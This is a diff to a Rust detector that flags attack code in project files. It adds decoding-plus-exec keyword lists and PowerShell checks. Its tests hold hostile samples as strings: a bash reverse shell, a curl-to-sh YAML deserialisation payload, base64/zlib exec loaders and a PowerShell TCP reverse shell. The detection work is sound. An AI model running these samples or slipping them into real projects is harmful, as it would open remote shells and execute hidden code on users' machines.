@@ -131,10 +131,43 @@ fn runs_by_itself(name: &str) -> bool {
 fn is_suspicious(text: &str) -> bool {
     let reaches = ["://", "/dev/tcp", "ocket", "$_", "equest", "nc ", "req.", "!!python", "onnect"];
     let acts = [
-        "nviron", "env", "ENV", "eval", "exec", "ystem", "spawn", "open", "Start", "ommand",
-        "Function", "Process", "home", "HOME", "~/", "curl", "wget", "sh -", "bash",
+        "nviron",
+        "env",
+        "ENV",
+        "eval",
+        "exec",
+        "ystem",
+        "spawn",
+        "open",
+        "Start",
+        "ommand",
+        "Function",
+        "Process",
+        "home",
+        "HOME",
+        "~/",
+        "curl",
+        "wget",
+        "sh -",
+        "bash",
+        "iex",
+        "Invoke-Expression",
     ];
-    reaches.iter().any(|word| text.contains(word)) && acts.iter().any(|word| text.contains(word))
+    let unpacks = [
+        "b64decode",
+        "decompress",
+        "base64_decode",
+        "atob",
+        "fromhex",
+        "gzinflate",
+        "decode64",
+        "'base64'",
+        "\"base64\"",
+        "FromBase64String",
+    ];
+    let contains = |words: &[&str]| words.iter().any(|word| text.contains(word));
+    contains(&reaches) && contains(&acts)
+        || contains(&unpacks) && contains(&["exec", "eval", "Function", "iex", "Invoke-Expression"])
 }
 
 fn attacks(path: &str, text: &str, ground: &Ground<'_>) -> bool {
@@ -145,7 +178,10 @@ fn attacks(path: &str, text: &str, ground: &Ground<'_>) -> bool {
         return false;
     }
     match form {
-        Form::Script(language) => script(language, text, ground, Whence::Script),
+        Form::Script(language) => {
+            script(language, text, ground, Whence::Script)
+                || language == Language::PowerShell && flow::follow(text, HASH).attacks
+        }
         Form::Recipe => recipe(text, ground),
         Form::Yaml => yaml(text, ground),
         Form::Code(style, by_itself) => code(style, text, by_itself, ground),
@@ -156,11 +192,8 @@ fn attacks(path: &str, text: &str, ground: &Ground<'_>) -> bool {
 fn code(style: Style, text: &str, by_itself: bool, ground: &Ground<'_>) -> bool {
     let flow = flow::follow(text, style);
     let whence = if by_itself { Whence::ByItself } else { Whence::Program };
-    flow.sends
+    flow.attacks
         || flow.runs_fetched
-        || flow.starts_fetched
-        || flow.runs_request
-        || flow.passes_shell
         || flow.commands.iter().any(|it| script(Language::Shell, it, ground, whence))
 }
 
@@ -257,7 +290,7 @@ fn sends_secret(effects: &Effects, text: &str, ground: &Ground<'_>) -> bool {
             let is_environment = path.resolved.text() == Some("/proc/self/environ");
             let own =
                 || SECRETS.matches(path, ground, crate::glob::Stance::Restricts) == Truth::Yes;
-            if !is_environment && !(is_of_home(path, ground) && own()) {
+            if !(is_environment || is_of_home(path, ground) && own()) {
                 return false;
             }
             let is_sent = |read: &str| {
@@ -440,6 +473,19 @@ mod tests {
             ("a", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.4/44 0>&1\n"),
             ("a.yaml", "x: !!python/object/apply:os.system [\"curl https://x.example | sh\"]"),
             ("Makefile", "X := $(shell curl -s https://x.example | sh)\n"),
+            (
+                "conftest.py",
+                "_T = \"eJwlyUEKwyAQRuGruItCOu4bconewA==\"\nexec(__import__(\"zlib\").decompress(__import__(\"base64\").b64decode(_T)))\n",
+            ),
+            ("a.js", "eval(Buffer.from('eJwlyUEKwyAQRuGruItCOu4bconewAAA', 'base64').toString());"),
+            (
+                "a.ps1",
+                "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('eJwlyUEKwyAQRuGruItCOu4bconewA==')))",
+            ),
+            (
+                "a.ps1",
+                "$c = New-Object Net.Sockets.TCPClient('203.0.113.4', 44)\n$s = $c.GetStream()\n$r = (iex $d 2>&1 | Out-String)\n",
+            ),
         ] {
             assert!(attacks(path, text, &W), "{path}: {text}");
         }
@@ -473,6 +519,8 @@ mod tests {
             ),
             ("Dockerfile", "RUN curl https://sh.rustup.rs | sh\n"),
             ("a.yaml", "x: !!python/object/apply:os.system [\"echo hi\"]"),
+            ("a.py", "assert base64.b64decode('eJwlyUEKwyAQRuGruItCOu4bconewA==') == b'x'\n"),
+            ("a.js", "const p = atob('eJwlyUEKwyAQRuGruItCOu4bconewA==');\n/x/.exec(p);\n"),
             ("a.py", "# exec(urlopen('https://x.example').read())\nprint('https://x.example')\n"),
         ] {
             assert!(!attacks(path, text, &W), "{path}: {text}");
